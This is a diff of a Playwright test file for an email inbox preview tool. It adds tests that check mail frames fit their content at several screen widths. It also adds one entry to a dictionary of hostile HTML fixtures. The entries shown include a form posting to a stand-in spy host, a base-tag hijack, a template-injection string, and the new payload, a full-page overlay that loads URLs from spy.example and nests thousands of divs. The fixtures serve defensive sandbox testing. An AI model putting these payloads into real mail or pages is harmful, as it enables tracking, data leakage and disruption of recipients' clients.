@@ -9,12 +9,15 @@ from typing import Any
 
 import pytest
 
+from engagement.domain.content_blocks import html_block
 from scripts.inbox import render_inbox
+from scripts.sample_campaign import email_parts
 from tests.inbox.sample_mails import block, mail, reasons
 
 pytestmark = pytest.mark.browser
 
 Open = Callable[..., Any]
+ITEMS = ("GET_INVOLVED", "MEMBER_BENEFITS", "DONATE", "NEWS", "EVENTS")
 
 
 class Watch:
@@ -55,7 +58,7 @@ def three() -> tuple[list[dict], dict]:
     items = ("EVENTS", "DONATE", "NEWS")
     why: dict = {}
     for number, item in enumerate(items):
-        why |= reasons(number, received=[item], block=block(item))
+        why |= reasons(number, blocks={item: block(item)})
     return [mail(n) for n in range(3)], why
 
 
@@ -81,6 +84,93 @@ def test_five_people_fit_beside_each_other_on_a_laptop(show: Open) -> None:
     page.set_viewport_size({"width": 1440, "height": 900})
     assert len({round(card.bounding_box()["y"]) for card in page.locator("article").all()}) == 1
     assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
+
+
+# What of a frame its reader sees: its own height, its mail's, how far it is scrolled, and the personal part in its window.
+SEEN = """() => { const part = document.querySelector('[data-kit-personal]').getBoundingClientRect();
+  return {frame: innerHeight, mail: document.body.getBoundingClientRect().height, scrolls: document.documentElement.scrollHeight,
+    scrolled: scrollY, top: part.top, bottom: part.bottom}; }"""
+
+
+@pytest.fixture
+def five_of_the_sample() -> tuple[list[dict], dict]:
+    """The sample's own mails, each with another block."""
+    mails, why = [], {}
+    for name, item in zip(["Amara", "Diego", "Ingrid", "Kofi", "Mei"], ITEMS, strict=True):
+        html = email_parts()[0].replace("{{User.UserAttributes.FirstName}}", name)
+        html = html.replace("{{Recommendations.FriendlyRecommendation}}", html_block(item))
+        address = f"you+{name.lower()}@example.org"
+        mails.append(mail(0, id=name, to=[address], html=html))
+        scored = [{"item": other, "score": 0.2} for other in ITEMS]
+        interactions = [{"item": other, "count": 12, "last": "2025-10-01"} for other in ITEMS]
+        why[address] = {
+            "name": name,
+            "recommended": scored,
+            "interactions": interactions,
+            "blocks": {item: html_block(item)},
+        }
+    return mails, why
+
+
+def fitted(page: Any, width: int) -> list[dict]:
+    """What is seen of each frame once the page is ``width`` px wide and no frame changes any more."""
+    page.set_viewport_size({"width": width, "height": 900})
+    heights: list[float] = []
+    for _ in range(50):
+        page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
+        before, heights = heights, [frame.bounding_box()["height"] for frame in page.locator("iframe").all()]
+        if heights == before:
+            break
+    return [frame.locator("body").evaluate(SEEN) for frame in page.frames[1:]]
+
+
+@pytest.mark.parametrize("width", [1920, 1400, 1024, 400, 320])
+def test_every_mail_of_the_sample_is_seen_whole_without_scrolling_its_frame(
+    show: Open, five_of_the_sample, width: int
+) -> None:
+    page, watch = show(*five_of_the_sample)
+    frames = fitted(page, width)
+    assert len(frames) == 5
+    for seen in frames:
+        assert 0 < seen["top"] < seen["bottom"] < seen["frame"]
+        assert seen["scrolled"] == 0
+        assert seen["scrolls"] <= seen["frame"]
+        assert seen["frame"] < 1.2 * seen["mail"] + 30, "a gap below the mail"
+    assert watch.errors == []
+
+
+def test_the_five_blocks_of_the_sample_stand_beside_each_other(show: Open, five_of_the_sample) -> None:
+    page, _ = show(*five_of_the_sample)
+    fitted(page, 1400)
+    blocks = [page.frame_locator(f"iframe >> nth={n}").locator("[data-kit-personal]").bounding_box() for n in range(5)]
+    assert max(b["y"] + b["height"] for b in blocks) - min(b["y"] for b in blocks) < 900 - 60, "more than a screen"
+
+
+@pytest.mark.parametrize("marked", [True, False])
+def test_a_mail_higher_than_any_frame_is_scrolled_to_its_block_and_the_page_is_not(show: Open, marked: bool) -> None:
+    long = "<p>A line of the letter.</p>" * 300
+    page, _ = show([mail(0, html=long + block("EVENTS") + long)], reasons(0, blocks={"EVENTS": block("EVENTS")}))
+    if not marked:
+        with page.expect_event("framenavigated"):
+            page.keyboard.press("m")
+        page.frame_locator("iframe").locator(".offer").wait_for()
+    (seen,) = fitted(page, 1400)
+    assert seen["frame"] <= 2400
+    assert 0 <= seen["top"] < seen["bottom"] <= seen["frame"]
+    assert page.evaluate("() => scrollY") == 0
+
+
+def test_a_short_mail_has_a_low_frame(show: Open, three) -> None:
+    page, _ = show(*three)
+    assert all(seen["frame"] < 400 for seen in fitted(page, 1400))
+
+
+def test_a_frame_keeps_its_height_while_another_view_is_shown(show: Open, five_of_the_sample) -> None:
+    page, _ = show(*five_of_the_sample)
+    before = fitted(page, 1400)
+    page.keyboard.press("2")
+    page.keyboard.press("1")
+    assert [seen["frame"] for seen in fitted(page, 1400)] == [seen["frame"] for seen in before]
 
 
 @pytest.mark.parametrize(
@@ -173,6 +263,8 @@ ATTACKS = {
     "form": '<form action="https://spy.example/"><input name=a><button id=send>send</button></form>',
     "base": '<base href="https://spy.example/"><a href="x">x</a>',
     "template": "{{ 7 * 7 }}{% for x in y %}${alert(1)}",
+    "layout": '<div style="position:fixed;inset:0;visibility:visible;height:1e9px;width:1e9px;margin-top:-1e9px;'
+    'background:url(https://spy.example/b);font-family:url(https://spy.example/f)">over</div>' + "<div>" * 3000,
     "broken": "<div><table><tr><td><<<>>><p <a href='",
 }
 
